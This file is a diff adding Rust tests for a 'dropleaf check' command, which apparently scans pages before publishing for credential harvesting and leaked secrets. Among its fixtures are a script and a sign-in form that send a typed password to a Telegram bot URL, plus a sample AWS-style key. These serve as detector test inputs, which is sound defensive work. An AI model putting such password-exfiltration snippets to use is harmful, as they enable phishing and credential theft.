@@ -1,0 +1,198 @@
+//! `dropleaf check FILE…`: the verdict without a server.
+
+use crate::harness::{Dropleaf, HARVEST, LEAK, page, zip};
+use serde_json::{Value, json};
+use std::fs;
+use std::io::Write;
+use std::path::Path;
+use std::process::{Output, Stdio};
+use tempfile::TempDir;
+
+struct Bench {
+    dir: TempDir,
+}
+
+impl Bench {
+    fn new() -> Self {
+        Self { dir: TempDir::new().unwrap() }
+    }
+
+    fn file(&self, name: &str, bytes: impl AsRef<[u8]>) -> &Self {
+        let path = self.dir.path().join(name);
+        fs::create_dir_all(path.parent().unwrap()).unwrap();
+        fs::write(path, bytes).unwrap();
+        self
+    }
+
+    fn check(&self, args: &[&str]) -> (i32, Value) {
+        let args = [&["check"], args].concat();
+        let output = Dropleaf::in_dir(self.dir.path()).run(&args);
+        read(&output)
+    }
+
+    fn path(&self) -> &Path {
+        self.dir.path()
+    }
+}
+
+fn read(output: &Output) -> (i32, Value) {
+    let said = serde_json::from_slice(&output.stdout)
+        .unwrap_or_else(|_| panic!("not JSON: {}", String::from_utf8_lossy(&output.stderr)));
+    (output.status.code().unwrap(), said)
+}
+
+fn files(dir: &Path) -> Vec<String> {
+    let mut names: Vec<_> =
+        fs::read_dir(dir).unwrap().map(|entry| entry.unwrap().file_name().into_string().unwrap()).collect();
+    names.sort();
+    names
+}
+
+#[test]
+fn accepted_is_0_and_refused_is_3_with_the_reasons_as_json() {
+    let bench = Bench::new();
+    bench.file("good.html", page("Report")).file("bad.html", HARVEST);
+    let (code, said) = bench.check(&["good.html"]);
+    assert_eq!((code, &said["accepted"], &said["reasons"]), (0, &json!(true), &json!([])));
+    assert_eq!(
+        said["files"],
+        json!([{"file": "good.html", "accepted": true, "reasons": [], "warnings": []}])
+    );
+    let (code, said) = bench.check(&["good.html", "bad.html"]);
+    assert_eq!((code, &said["accepted"]), (3, &json!(false)));
+    assert_eq!((&said["files"][0]["accepted"], &said["files"][1]["accepted"]), (&json!(true), &json!(false)));
+    assert_eq!(said["reasons"], said["files"][1]["reasons"]);
+    let reasons = said["reasons"].as_array().unwrap();
+    let sent = reasons.iter().find(|reason| reason["rule"] == "sent-to-other-site").unwrap();
+    assert_eq!((&sent["file"], &sent["line"]), (&json!("bad.html"), &json!(3)));
+    assert!(sent["why"].is_string() && sent["fix"].is_string());
+    assert_eq!(files(bench.path()), ["bad.html", "good.html"], "nothing else is left behind");
+}
+
+#[test]
+fn every_kind_of_file_is_read_as_what_it_is() {
+    let bench = Bench::new();
+    let script = "const field = document.querySelector('[type=password]').value;\n\
+                  fetch('https://api.telegram.org/bot1:abc/sendMessage?text=' + field);\n";
+    bench
+        .file("page", HARVEST)
+        .file("old.htm", HARVEST)
+        .file(
+            "wide.html",
+            HARVEST.encode_utf16().fold(vec![0xff, 0xfe], |mut wide, unit| {
+                wide.extend(unit.to_le_bytes());
+                wide
+            }),
+        )
+        .file("site.zip", zip(&[("index.html", &page("Fine")), ("in/login.html", HARVEST)]))
+        .file("folder/index.html", page("Fine"))
+        .file("folder/in/login.html", HARVEST)
+        .file("steal.js", script);
+    for (name, place) in [
+        ("page", "page"),
+        ("old.htm", "old.htm"),
+        ("wide.html", "wide.html"),
+        ("site.zip", "site.zip/in/login.html"),
+        ("folder", "folder/in/login.html"),
+        ("steal.js", "steal.js"),
+    ] {
+        let (code, said) = bench.check(&[name]);
+        assert_eq!((code, &said["reasons"][0]["file"]), (3, &json!(place)), "{name}: {said}");
+    }
+    bench
+        .file("notes.md", "# Notes\n\nHello.\n")
+        .file("drawing.svg", "<svg xmlns='http://www.w3.org/2000/svg'/>");
+    bench.file("data.json", "{}").file("photo.png", [0x89, b'P', b'N', b'G', 0, 1, 2]);
+    let (code, said) = bench.check(&["notes.md", "drawing.svg", "data.json", "photo.png"]);
+    assert_eq!(code, 0, "{said}");
+    assert!(said["files"][3]["warnings"].to_string().contains("not looked into"), "{said}");
+}
+
+#[test]
+fn folder_is_checked_as_its_archive_would_be() {
+    let bench = Bench::new();
+    bench.file("site/sub/page.html", page("Fine")).file("site/.env", "KEY=1").file("site/.DS_Store", "x");
+    let (code, said) = bench.check(&["site"]);
+    assert_eq!(code, 0);
+    let warnings = said["files"][0]["warnings"].to_string();
+    assert!(warnings.contains("hidden files") && warnings.contains("no index.html"), "{warnings}");
+}
+
+#[test]
+fn what_cannot_be_read_or_published_is_1_and_named() {
+    let bench = Bench::new();
+    bench.file("empty.html", " \n").file("broken.zip", "PK\u{3}\u{4}no").file("good.html", page("Fine"));
+    bench.file("binary.html", b"<p>a\0b");
+    for (name, error) in [
+        ("missing.html", "unreadable"),
+        ("empty.html", "empty_file"),
+        ("broken.zip", "invalid_archive"),
+        ("binary.html", "not_text"),
+    ] {
+        let output = Dropleaf::in_dir(bench.path()).run(&["check", "good.html", name]);
+        let (code, said) = read(&output);
+        assert_eq!((code, &said["accepted"]), (1, &json!(false)), "{name}");
+        assert_eq!(
+            (&said["files"][0]["accepted"], &said["files"][1]["error"]),
+            (&json!(true), &json!(error))
+        );
+        assert!(said["files"][1]["error_description"].is_string());
+        assert!(String::from_utf8_lossy(&output.stderr).contains(name));
+    }
+    // What is refused is refused, whatever else is wrong.
+    bench.file("bad.html", format!("{HARVEST}\0"));
+    assert_eq!(bench.check(&["missing.html", "bad.html"]).0, 3);
+    let (code, said) = bench.check(&["--set", "limits.upload_bytes=10", "good.html"]);
+    assert_eq!((code, &said["files"][0]["error"]), (1, &json!("too_large")));
+}
+
+#[test]
+fn page_on_standard_input_is_a_dash() {
+    let bench = Bench::new();
+    let mut command = Dropleaf::in_dir(bench.path()).command(&["check", "-"]);
+    command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped());
+    let mut child = command.spawn().unwrap();
+    child.stdin.take().unwrap().write_all(HARVEST.as_bytes()).unwrap();
+    let (code, said) = read(&child.wait_with_output().unwrap());
+    assert_eq!((code, &said["reasons"][0]["file"]), (3, &json!("-")));
+}
+
+#[test]
+fn secrets_are_said_as_the_settings_or_the_caller_want() {
+    let bench = Bench::new();
+    bench.file("leak.html", LEAK).file("leak.md", "# Notes\n\nkey: AKIAIOSFODNN7EXAMPLQ\n");
+    let (code, said) = bench.check(&["leak.html", "leak.md"]);
+    assert_eq!(code, 0);
+    assert!(said["files"][0]["warnings"][0].as_str().unwrap().contains("line 2"), "{said}");
+    assert_eq!(said["files"][1]["warnings"].as_array().unwrap().len(), 1, "said once: {said}");
+    assert!(said["files"][1]["warnings"][0].as_str().unwrap().contains("line 3"), "{said}");
+    assert!(!said.to_string().contains("AKIA"));
+    let (code, said) = bench.check(&["--pii-check", "block", "leak.html"]);
+    assert_eq!((code, &said["reasons"][0]["line"]), (3, &json!(2)));
+    assert_eq!(bench.check(&["--set", "safety.pii_check=block", "--pii-check", "off", "leak.html"]).0, 3);
+    let (_, said) = bench.check(&["--pii-check", "off", "leak.html"]);
+    assert_eq!(said["files"][0]["warnings"], json!([]));
+}
+
+#[test]
+fn rules_about_destinations_can_be_left_out() {
+    let bench = Bench::new();
+    let drawn = "<!doctype html><title>Sign in</title><form method=post action=\"https://api.telegram.org/bot1:x/sendMessage\">\
+                 <input type=password name=password></form>";
+    bench.file("sent.html", drawn);
+    assert_eq!(bench.check(&["sent.html"]).0, 3);
+    assert_eq!(bench.check(&["--without-destinations", "sent.html"]).0, 0);
+}
+
+#[test]
+fn a_thousand_files_are_checked_in_one_call() {
+    let bench = Bench::new();
+    let names: Vec<String> = (0..1000).map(|n| format!("page-{n}.html")).collect();
+    for (n, name) in names.iter().enumerate() {
+        bench.file(name, if n == 500 { HARVEST.to_owned() } else { page(name) });
+    }
+    let args: Vec<&str> = names.iter().map(String::as_str).collect();
+    let (code, said) = bench.check(&args);
+    assert_eq!((code, said["files"].as_array().unwrap().len()), (3, 1000));
+    assert!(said["reasons"].as_array().unwrap().iter().all(|reason| reason["file"] == "page-500.html"));
+}
